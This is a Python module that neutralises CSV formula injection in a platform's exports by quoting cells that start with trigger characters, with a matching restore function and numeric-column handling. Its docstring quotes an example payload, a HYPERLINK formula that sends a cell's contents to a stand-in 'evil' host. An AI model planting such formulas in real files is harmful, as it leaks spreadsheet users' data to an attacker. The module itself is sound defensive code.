"""CSV cells that a spreadsheet shows as data, never runs as a formula (CSV injection, CWE-1236).

Every CSV the platform writes (explorer exports, the trades and flags files of the anomaly jobs)
carries text that others chose: a retirement's beneficiary name, a merchant's name, a reason. A
spreadsheet that opens ``=HYPERLINK("http://evil/?"&A1, "click")`` or ``@SUM(...)`` as a cell runs it.
As OWASP recommends, a text cell beginning with ``=``, ``+``, ``-``, ``@``, tab or carriage return
gets a leading single quote, which spreadsheets show as text and do not display.

Numbers are not text: an exact integer (a negative balance change included) is written as its
digits so the column stays numeric and exact; whether a cell is a number is decided by what the
column holds (its type), not by how the text looks.

Readers of the platform's own files undo the quote with :func:`restore_cell`; the pair is lossless
because a text that already begins with quotes before a trigger gets one more.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP's list)."""
QUOTE = "'"
INTEGER = re.compile(r"-?[0-9]+")


def _needs_quote(text: str) -> bool:
    return text.lstrip(QUOTE).startswith(FORMULA_TRIGGERS)


def text_cell(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet will not evaluate."""
    return QUOTE + text if _needs_quote(text) else text


def restore_cell(cell: str) -> str:
    """The text :func:`text_cell` was given (the platform's readers call this on text columns)."""
    return cell[1:] if cell.startswith(QUOTE) and _needs_quote(cell[1:]) else cell


def number_cell(value: Any) -> str:
    """A numeric column's cell: exact integer digits (sign included); anything else is text.

    A bool is not a number here (``True`` would be written ``1`` by accident of Python).
    """
    if isinstance(value, int) and not isinstance(value, bool):
        return str(value)
    if isinstance(value, float):
        return repr(value)
    text = str(value)
    return text if INTEGER.fullmatch(text) else text_cell(text)
